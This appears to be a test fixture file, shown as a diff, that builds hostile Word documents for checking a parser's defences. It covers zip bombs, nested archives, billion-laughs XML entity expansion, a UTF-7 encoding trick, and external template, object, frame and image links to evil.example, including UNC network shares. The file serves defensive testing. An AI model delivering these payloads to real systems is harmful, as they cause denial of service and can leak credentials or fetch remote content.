@@ -1,0 +1,172 @@
+/** Word documents that unpack to far more than they are, or fetch something, each a few kilobytes or a megabyte long. */
+import { constants, crc32, deflateRawSync } from 'node:zlib';
+
+export type PackedEntry = {
+  name: string;
+  packed: Buffer;
+  /** As the directory and the header of the part declare it. */
+  size: number;
+  isDeflated?: boolean;
+  /** Where the directory says that the part is, if not where it is. */
+  at?: number;
+};
+
+const MEGABYTE = 1_048_576;
+const FILLER = Buffer.alloc(MEGABYTE);
+const LAST_BLOCK = Buffer.from([3, 0]);
+
+/** Zeros, packed a thousand to one: blocks that stand for themselves, one after the other. */
+export function packedZeros(megabytes: number): Buffer {
+  const block = deflateRawSync(FILLER, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
+  return Buffer.concat([...Array<Buffer>(megabytes).fill(block), LAST_BLOCK]);
+}
+
+export const entry = (name: string, content: string | Buffer): PackedEntry => ({
+  name,
+  packed: deflateRawSync(content),
+  size: Buffer.byteLength(content),
+});
+
+const typesOf = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+
+export const relationships = (...list: { type: string; target: string; mode?: string }[]): string =>
+  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list
+    .map(
+      ({ type, target, mode }, index) =>
+        `<Relationship Id="r${index}" Type="${typesOf}/${type}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/>`,
+    )
+    .join('')}</Relationships>`;
+
+export const WORD_ENTRIES: PackedEntry[] = [
+  entry('[Content_Types].xml', '<Types/>'),
+  entry('_rels/.rels', relationships({ type: 'officeDocument', target: 'word/document.xml' })),
+  entry('word/document.xml', '<w:document/>'),
+];
+
+type Archive = {
+  /** As the end of the archive says it. */
+  entryCount?: number;
+};
+
+export function packedZip(entries: PackedEntry[], { entryCount = entries.length }: Archive = {}): Buffer {
+  const locals: Buffer[] = [];
+  const directory: Buffer[] = [];
+  let offset = 0;
+  for (const { name, packed, size, isDeflated = true, at = offset } of entries) {
+    const path = Buffer.from(name);
+    const facts = Buffer.alloc(26);
+    facts.writeUInt16LE(20, 0);
+    facts.writeUInt16LE(0x800, 2);
+    facts.writeUInt16LE(isDeflated ? 8 : 0, 4);
+    facts.writeUInt32LE(crc32(packed), 10);
+    facts.writeUInt32LE(packed.length, 14);
+    facts.writeUInt32LE(size, 18);
+    facts.writeUInt16LE(path.length, 22);
+    const place = Buffer.alloc(14);
+    place.writeUInt32LE(at, 10);
+    directory.push(Buffer.from('PK\u0001\u0002\u0014\u0000', 'latin1'), facts, place, path);
+    if (at !== offset) continue;
+    const local = Buffer.concat([Buffer.from('PK\u0003\u0004'), facts, path, packed]);
+    locals.push(local);
+    offset += local.length;
+  }
+  const table = Buffer.concat(directory);
+  const end = Buffer.alloc(22);
+  end.write('PK\u0005\u0006', 0, 'latin1');
+  end.writeUInt16LE(entryCount & 0xffff, 8);
+  end.writeUInt16LE(entryCount & 0xffff, 10);
+  end.writeUInt32LE(table.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return Buffer.concat([...locals, table, end]);
+}
+
+export const packedDocx = (...more: PackedEntry[]): Buffer => packedZip([...WORD_ENTRIES, ...more]);
+
+/** One in the other, this many deep. */
+function nested(depth: number): Buffer {
+  let inner = packedZip([entry('a.txt', 'a')]);
+  for (let level = 1; level < depth; level += 1) inner = packedZip([entry('inner.xlsx', inner)]);
+  return inner;
+}
+
+const LAUGHS = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, n) => {
+  const before = String.fromCharCode(97 + n);
+  return `<!ENTITY ${String.fromCharCode(98 + n)} "${`&${before};`.repeat(10)}">`;
+}).join('')}]><w:document>&j;</w:document>`;
+
+const utf16 = (text: string) => Buffer.from(`\ufeff${text.replace('<?xml version="1.0"?>', '')}`, 'utf16le');
+
+const linked = (type: string, target: string, mode = 'External') =>
+  packedDocx(entry('word/_rels/document.xml.rels', relationships({ type, target, mode })));
+
+/** All of them say that they are the first part, so that many fit into a file that may be sent. */
+const manyEntries = (count: number): PackedEntry[] =>
+  Array.from({ length: count }, (_, n) => ({
+    name: `${n}`,
+    packed: Buffer.alloc(0),
+    size: 0,
+    isDeflated: false,
+    at: 0,
+  }));
+
+/** Refused by their directory: nothing of them is unpacked. */
+export const bombsByDirectory = (): Record<string, Buffer> => ({
+  'a megabyte that becomes a gigabyte': packedDocx({
+    ...{ name: 'word/media/a.bmp', packed: packedZeros(1_024), size: 1_024 * MEGABYTE },
+  }),
+  'forty kilobytes that become forty megabytes': packedDocx({
+    ...{ name: 'word/media/a.bmp', packed: packedZeros(40), size: 40 * MEGABYTE },
+  }),
+  'many parts that together become too much': packedDocx(
+    ...Array.from({ length: 60 }, (_, n) => ({
+      ...{ name: `word/media/${n}.bmp`, packed: packedZeros(1), size: MEGABYTE },
+    })),
+  ),
+  '65,000 entries': packedZip([...WORD_ENTRIES, ...manyEntries(65_000)]),
+  'more entries than the archive says': packedZip([...WORD_ENTRIES, ...manyEntries(2_000)], { entryCount: 3 }),
+  'two hundred entries that are one and the same part': packedDocx(
+    ...[{ name: 'word/0', packed: packedZeros(1), size: MEGABYTE }],
+    ...Array.from({ length: 199 }, (_, n) => ({
+      ...{ name: `word/${n + 1}`, packed: packedZeros(1), size: MEGABYTE, at: 0 },
+    })),
+  ),
+  'an archive in it': packedDocx(entry('word/a.zip', nested(1))),
+});
+
+/** Refused by what comes out of them, as soon as it does. */
+export const bombsByContent = (): Record<string, Buffer> => ({
+  'a gigabyte that says it is a kilobyte': packedDocx({
+    ...{ name: 'word/media/a.bmp', packed: packedZeros(1_024), size: 1_000 },
+  }),
+  'twenty archives one in the other': packedDocx(entry('word/embeddings/a.xlsx', nested(20))),
+  'an archive under another name': packedDocx(entry('word/media/image1.png', nested(1))),
+  'a billion laughs': packedZip([...WORD_ENTRIES.slice(0, 2), entry('word/document.xml', LAUGHS)]),
+  'a billion laughs in UTF-16': packedDocx(entry('word/footer1.xml', utf16(LAUGHS))),
+  'a billion laughs behind a long comment': packedDocx(
+    entry('word/footer1.xml', LAUGHS.replace('?>', `?><!--${'-x'.repeat(100_000)}-->`)),
+  ),
+  'a billion laughs under another name': packedDocx(entry('word/footer.bin', LAUGHS)),
+  'a part in an encoding that hides what it says': packedDocx(
+    entry('word/footer1.xml', '<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE'),
+  ),
+  'an external template': linked('attachedTemplate', 'https://evil.example/a.dotm'),
+  'an external template of the network': linked('attachedTemplate', 'file:///\\\\evil.example\\share\\a.dotm'),
+  'an external object': linked('oleObject', 'https://evil.example/a.bin'),
+  'an external frame': linked('frame', 'https://evil.example/'),
+  'an external picture': linked('image', 'https://evil.example/pixel.png'),
+  'a relationship without an end': packedDocx(
+    entry('word/_rels/document.xml.rels', `<Relationships><Relationship ${'a'.repeat(500_000)}/></Relationships>`),
+  ),
+  'an external picture of the network': linked('image', 'file://evil.example/share/pixel.png'),
+  'an external template that is spelt otherwise': linked('attachedTemplate', 'https://evil.example/', '&#69;xternal'),
+});
+
+/** Each chart is modest, and all of them together are not. */
+export const tooManyCharts = (): Buffer =>
+  packedDocx(
+    ...Array.from({ length: 100 }, (_, n) =>
+      entry(`word/embeddings/${n}.xlsx`, packedZip([entry('a.xml', '<a/>'), entry('b', Buffer.alloc(900_000))])),
+    ),
+    // So that the document as a whole does not pack too well.
+    { name: 'word/media/a.bin', packed: Buffer.alloc(2 * MEGABYTE, 'a'), size: 2 * MEGABYTE, isDeflated: false },
+  );
